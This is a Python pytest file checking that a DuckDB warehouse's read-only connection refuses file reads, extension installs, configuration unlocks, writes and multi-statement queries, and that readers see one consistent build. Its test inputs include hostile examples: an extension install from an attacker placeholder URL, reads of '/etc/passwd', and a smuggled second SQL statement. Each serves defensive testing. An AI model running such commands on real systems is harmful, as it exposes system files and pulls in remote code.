"""Issue 14 item 5 and 9: the read-only connection is read-only, `ebpm.query` runs one
question, and a reader sees one build (and is told when a later one replaced it)."""

from __future__ import annotations

import datetime as dt
import shutil
import warnings
from pathlib import Path

import duckdb
import pytest
from conftest import sha256

from ebpm import paths
from ebpm.warehouse import Warehouse, build, connect, progress_table, query
from ebpm.warehouse.read import StaleSnapshotWarning


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory, kpi_warehouse: Path) -> Path:
    """A raw folder (KPI data) and its warehouse (the session's build of it), in a folder of its own."""
    root = tmp_path_factory.mktemp("ro")
    shutil.copytree(paths.RAW / "kpi", root / "data" / "raw" / "kpi")
    (root / "data" / "processed").mkdir()
    shutil.copy(kpi_warehouse, root / "data" / "processed" / "ebpm.duckdb")
    return root


@pytest.fixture
def db(workspace: Path) -> Path:
    return workspace / "data" / "processed" / "ebpm.duckdb"


def refused(con: duckdb.DuckDBPyConnection, sql: str) -> str:
    with pytest.raises(duckdb.Error) as caught:
        con.sql(sql).fetchall()
    return str(caught.value)


def test_copy_into_the_raw_folder_is_refused(workspace, db):
    target = workspace / "data" / "raw" / "kpi" / "kpi_definitions.csv"
    before = sha256(target)
    with connect(db) as con:
        message = refused(con, f"COPY (SELECT 1 AS x) TO '{target}' (HEADER)")
    assert "file system operations are disabled" in message
    assert sha256(target) == before


def test_attach_of_another_database_is_refused(workspace, db, tmp_path):
    other = tmp_path / "other.duckdb"
    duckdb.connect(str(other)).close()
    with connect(db) as con:
        message = refused(con, f"ATTACH '{other}' AS other")
    assert "disabled by configuration" in message


def test_install_and_load_of_extensions_are_refused(db):
    with connect(db) as con:
        assert "disabled" in refused(con, "INSTALL excel FROM 'http://attacker.invalid'")
        assert "disabled" in refused(con, "LOAD excel")


def test_reading_any_file_is_refused(db):
    with connect(db) as con:
        assert "disabled" in refused(con, "SELECT * FROM read_csv('/etc/passwd')")
        assert "disabled" in refused(con, "SELECT * FROM read_text('/etc/hostname')")
        assert "disabled" in refused(con, "SELECT * FROM glob('/*')")


def test_the_restrictions_cannot_be_undone(db):
    with connect(db) as con:
        for statement in (
            "SET enable_external_access = true",
            "RESET enable_external_access",
            "SET lock_configuration = false",
            "SET autoinstall_known_extensions = true",
            "SET allowed_directories = ['/']",
        ):
            assert "locked" in refused(con, statement)


def test_export_and_writes_to_the_warehouse_are_refused(db):
    before = sha256(db)
    with connect(db) as con:
        assert "disabled" in refused(con, "EXPORT DATABASE '/tmp/ebpm_export'")
        assert "read-only" in refused(con, "DELETE FROM kpi_actual")
    assert sha256(db) == before


def test_a_second_connection_in_the_process_is_restricted_too(db):
    with connect(db) as first, connect(db) as second:
        assert second.sql("SELECT current_setting('enable_external_access')").fetchall() == [
            (False,)
        ]
        assert first.sql("SELECT count(*) FROM kpi_current").fetchall() == [(15,)]


def test_the_tables_of_the_warehouse_stay_readable(db):
    with connect(db) as con:
        assert con.sql("SELECT count(*) FROM kpi_progress WHERE fiscal_year = 2025").fetchall() == [
            (15,)
        ]


def test_query_refuses_a_second_statement_before_running_anything(db, tmp_path):
    target = tmp_path / "x.csv"
    with pytest.raises(ValueError, match="1つの SQL 文だけを実行できます（2個の文があります"):
        query(f"SELECT 1; COPY (SELECT 1) TO '{target}'", db)
    assert not target.exists()


def test_query_refuses_commands(db):
    with pytest.raises(ValueError, match="COPY 文は実行しません"):
        query("COPY kpi_actual TO '/tmp/x.csv'", db)


def test_query_keeps_a_semicolon_inside_a_string(db):
    assert query("SELECT ';' AS mark -- ; COPY", db).rows() == [(";",)]


def test_warehouse_sql_is_checked_the_same_way(db):
    with Warehouse(db) as wh, pytest.raises(ValueError, match="1つの SQL 文だけ"):
        wh.sql("SELECT 1; SELECT 2")


# --- one snapshot ------------------------------------------------------------------------------


def raise_k05(raw: Path, value: str) -> None:
    path = raw / "kpi" / "actuals" / "sample_fy2024_fy2025.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    lines = [
        ",".join([*line.split(",")[:2], value, *line.split(",")[3:]])
        if line.startswith("K05,2025,")
        else line
        for line in lines
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def test_a_report_reads_one_build_even_when_rebuilt_in_between(
    tmp_path, monkeypatch, kpi_warehouse
):
    from ebpm import report
    from ebpm.report import figures

    shutil.copytree(paths.RAW / "kpi", tmp_path / "raw" / "kpi")
    db = tmp_path / "ebpm.duckdb"
    shutil.copy(kpi_warehouse, db)  # a build of these files
    raise_k05(tmp_path / "raw", "1999")
    real_history = Warehouse.kpi_history
    rebuilt = []

    def history_then_rebuild(self, *args, **kwargs):
        if not rebuilt:  # a rebuild lands between the progress table and the history
            build(tmp_path / "raw", db)
            rebuilt.append(True)
        return real_history(self, *args, **kwargs)

    monkeypatch.setattr(Warehouse, "kpi_history", history_then_rebuild)
    seen = {}

    # what the charts would be drawn from; none drawn
    def capture(data, chart_dir, formats, renderer):
        k05 = next(k for k in data.kpis if k.kpi_id == "K05")
        seen["table"] = data.table.filter(kpi_id="K05")["actual"].item()
        seen["history"] = k05.history.filter(fiscal_year=2025)["actual"].item()
        return lambda: figures.Figures(None, {}, "")

    monkeypatch.setattr(figures, "submit_figures", capture)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", StaleSnapshotWarning)
        report.write_report(tmp_path / "report", db, documents=False, formats=())
    assert rebuilt
    assert seen["table"] == seen["history"] != 1999.0  # both from the first build
    assert progress_table(2025, db).filter(kpi_id="K05")["actual"].item() == 1999.0


def test_a_long_held_connection_is_told_it_sees_an_old_build(tmp_path, kpi_warehouse):
    shutil.copytree(paths.RAW / "kpi", tmp_path / "raw" / "kpi")
    db = tmp_path / "ebpm.duckdb"
    shutil.copy(kpi_warehouse, db)  # a build of these files
    notebook = connect(db)  # a notebook keeps its connection open
    try:
        raise_k05(tmp_path / "raw", "1999")
        build(tmp_path / "raw", db)
        with pytest.warns(StaleSnapshotWarning, match="古いウェアハウス") as caught:
            old = progress_table(2025, db).filter(kpi_id="K05")["actual"].item()
        assert "con.close()" in str(caught[0].message)
        assert old != 1999.0  # DuckDB shares the open (old) database within the process
    finally:
        notebook.close()
    with warnings.catch_warnings():
        warnings.simplefilter("error", StaleSnapshotWarning)
        assert progress_table(2025, db).filter(kpi_id="K05")["actual"].item() == 1999.0


def test_built_at_is_the_snapshots_own_not_the_files(tmp_path, kpi_warehouse):
    shutil.copytree(paths.RAW / "kpi", tmp_path / "raw" / "kpi")
    db = tmp_path / "ebpm.duckdb"
    shutil.copy(kpi_warehouse, db)  # a build of these files, dated as if made last January
    earlier = dt.datetime(2026, 1, 5, 9, 30)
    with duckdb.connect(str(db)) as con:
        con.execute("UPDATE build_info SET built_at = ?", [earlier])
    with Warehouse(db) as wh:
        assert wh.built_at == earlier
        build(tmp_path / "raw", db)
        assert wh.built_at == earlier
    with Warehouse(db) as wh:
        assert wh.built_at > earlier
